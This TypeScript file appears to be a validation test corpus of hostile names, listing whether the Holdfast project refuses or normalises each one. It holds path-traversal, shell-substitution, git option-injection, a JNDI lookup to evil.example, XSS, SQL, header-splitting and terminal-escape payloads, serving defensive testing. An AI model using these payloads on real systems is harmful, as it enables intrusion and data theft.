// Names that have broken other programs, with what Holdfast promises about each: whether it is a name, and the one
// form in which it is stored. Every face that takes or shows a name goes through the same corpus, so it is data
// only. Characters that a screen does not show are written as escapes.

export interface HostileName {
  /** What it tries. */
  readonly what: string;
  /** As the caller means it, before any encoding. */
  readonly name: string;
  /** In what form it is stored and shown; null: it is no name and is refused. */
  readonly stored: string | null;
}

const taken = (what: string, name: string, stored = name): HostileName => ({ what, name, stored });
const refused = (what: string, name: string): HostileName => ({ what, name, stored: null });

const traversal: readonly HostileName[] = [
  refused("the folder above", ".."),
  refused("folders above", "../../etc/passwd"),
  refused("up from below", "a/../../b"),
  refused("this folder", "./a"),
  refused("from the root", "/etc/passwd"),
  refused("a share", "//host/share"),
  refused("a path above the repository", "path:../secret"),
  refused("a path up and down", "path:a/b/../../../c"),
  refused("an absolute path", "path:/etc/shadow"),
  refused("backslashes", "..\\..\\windows"),
  taken("backslashes in a path are characters", "path:..\\..\\windows"),
  taken("a path in another spelling", "path:./a//b/./c/", "path:a/b/c"),
  taken("dots that are no segment", "...", "..."),
  taken("a path of three dots", "path:.../a"),
  refused("a URL", "file:///etc/passwd"),
];

const invisible: readonly HostileName[] = [
  refused("a bidi override", "path:a\u202egpj.exe"),
  refused("a bidi isolate", "path:\u2066admin\u2069"),
  refused("a right-to-left mark", "path:a\u200fb"),
  refused("a zero-width space", "path:adm\u200bin"),
  refused("a zero-width joiner", "path:a\u200db"),
  refused("a zero-width no-break space", "path:\ufeffa"),
  refused("a soft hyphen", "path:ad\u00admin"),
  refused("a Hangul filler", "path:a\u3164b"),
  refused("a tag character", "path:a\u{e0041}"),
  refused("a variation selector", "path:a\ufe0f"),
  refused("a private-use character", "path:a\ue000"),
  refused("half a surrogate pair", "path:a\ud800"),
  refused("a line separator", "path:a\u2028b"),
];

const control: readonly HostileName[] = [
  refused("NUL", "path:a\u0000b"),
  refused("NUL at the end", "deploy\u0000"),
  refused("a line feed", "deploy\nlevel=50"),
  refused("a log line", 'path:a\n{"level":60,"msg":"the server was broken into"}'),
  refused("a header", "deploy\r\nSet-Cookie: a=b"),
  refused("a reply", "path:a\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
  refused("an event of a stream", "path:a\nevent: acquired\ndata: {}\n\n"),
  refused("a colour", "path:\u001b[31mred\u001b[0m"),
  refused("a terminal's title", "path:\u001b]0;owned\u0007"),
  refused("an eight-bit escape", "path:\u009b31m"),
  refused("DEL", "path:a\u007f"),
  refused("a backspace", "path:abc\b\b\bxyz"),
  refused("next line", "path:a\u0085b"),
];

const command: readonly HostileName[] = [
  taken("an option", "-x"),
  taken("the end of options", "--"),
  refused("an option of git", `--upload-pack=touch\${IFS}owned`),
  taken("an option of git, as a path", "path:--upload-pack=touch owned"),
  taken("an option with a value", "--output:/tmp/owned"),
  refused("a revision of git", "@{u}"),
  taken("a revision of git, as a path", "path:@{u}"),
  taken("HEAD", "HEAD"),
  taken("a lock file of git", "refs/heads/main.lock"),
  refused("a range of git", "main..HEAD~1"),
  refused("a substitution", "$(touch owned)"),
  refused("backquotes", "`touch owned`"),
  taken("a pipe, as a path", "path:a|touch owned;&& true"),
  taken("quotes, as a path", "path:'\"`$HOME"),
  taken("a glob, as a path", "path:app/[slug]/{a,b}/*?.ts"),
  refused("a glob", "deploy-*"),
];

const markup: readonly HostileName[] = [
  refused("a script", "<script>alert(1)</script>"),
  taken("a script, as a path", "path:<script>alert(1)</script>"),
  taken("an attribute, as a path", 'path:"onmouseover="alert(1)'),
  taken("an end of JSON, as a path", 'path:"},{"admin":true'),
  refused("SQL", "'; DROP TABLE log; --"),
  taken("SQL, as a path", "path:' OR '1'='1"),
  refused("a format", "%s%s%n"),
  taken("a format, as a path", "path:%s%n%x{}"),
  refused("a template", `\${7*7}`),
  taken("templates, as a path", `path:{{7*7}} \${7*7} #{7*7} <%= 7*7 %>`),
  refused("a lookup", `\${jndi:ldap://evil.example/a}`),
  taken("a label of metrics, as a path", 'path:a",status="200"} 1'),
  taken("a key of an object's prototype", "__proto__"),
  taken("another one", "constructor"),
  taken("a method of every object", "toString"),
];

const encoded: readonly HostileName[] = [
  refused("what decodes to a slash, once more", "a%2Fb"),
  refused("what decodes to dots, once more", "%2e%2e%2f"),
  refused("what decodes to NUL, once more", "a%00"),
  taken("percent signs in a path", "path:..%2f..%2fetc"),
  taken("percent signs upon percent signs", "path:%2525252e"),
  taken("broken percent signs", "path:100%"),
];

const wide: readonly HostileName[] = [
  taken("256 bytes", "n".repeat(256)),
  refused("257 bytes", "n".repeat(257)),
  refused("300 bytes", "n".repeat(300)),
  taken("a path of 256 bytes", `path:${"é".repeat(125)}x`),
  refused("a path of 257 bytes", `path:${"é".repeat(126)}`),
  taken("256 bytes only once it is composed", `path:${"e\u0301".repeat(125)}x`, `path:${"é".repeat(125)}x`),
  taken("composed", "path:caf\u00e9"),
  taken("decomposed, the same name", "path:cafe\u0301", "path:caf\u00e9"),
  taken("a compatibility letter is another name", "path:\ufb01le"),
  taken("a letter of another alphabet", "path:\u0430dmin"),
  taken("emoji", "path:🙂/💥"),
  refused("emoji joined by what is not shown", "path:👩\u200d💻"),
  refused("letters beyond ASCII in a plain name", "café"),
  taken(
    "a mountain of accents",
    `path:a${"\u0323\u0307".repeat(20)}`,
    `path:\u1ea1${"\u0323".repeat(19)}${"\u0307".repeat(20)}`,
  ),
  refused("nothing", ""),
  refused("nothing but a space", " "),
  taken("spaces around, as a path", "path: a "),
];

export const hostileNames: readonly HostileName[] = [
  ...traversal,
  ...invisible,
  ...control,
  ...command,
  ...markup,
  ...encoded,
  ...wide,
];

/** Characters that must not stand in what a person reads: they act on a terminal, or hide and turn what is beside them. */
export const unprintable = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

/** Path segments, as they stand in a request, that no decoding turns into a name. */
export const hostileSegments: readonly (readonly [what: string, segment: string])[] = [
  ["dots and an encoded slash", "..%2f"],
  ["dots, encoded", "%2e%2e"],
  ["dots, encoded twice", "%252e%252e%252f"],
  ["NUL", "%00"],
  ["NUL at the end", "deploy%00"],
  ["a line break", "a%0d%0aX-Injected:%20yes"],
  ["an overlong slash", "path:%c0%af"],
  ["an overlong dot", "path:%c0%ae%c0%ae"],
  ["half a surrogate pair", "path:%ed%a0%80"],
  ["no UTF-8", "path:%ff%fe"],
  ["cut-off UTF-8", "path:%e2%82"],
  ["beyond Unicode", "path:%f4%90%80%80"],
  ["half a percent sign", "a%2"],
  ["no hexadecimal", "a%zz"],
  ["the old way to write Unicode", "a%u002e"],
  ["a full-width slash is no slash, and no letter either", "a%ef%bc%8fb"],
  ["a parameter", "deploy;admin=true"],
];
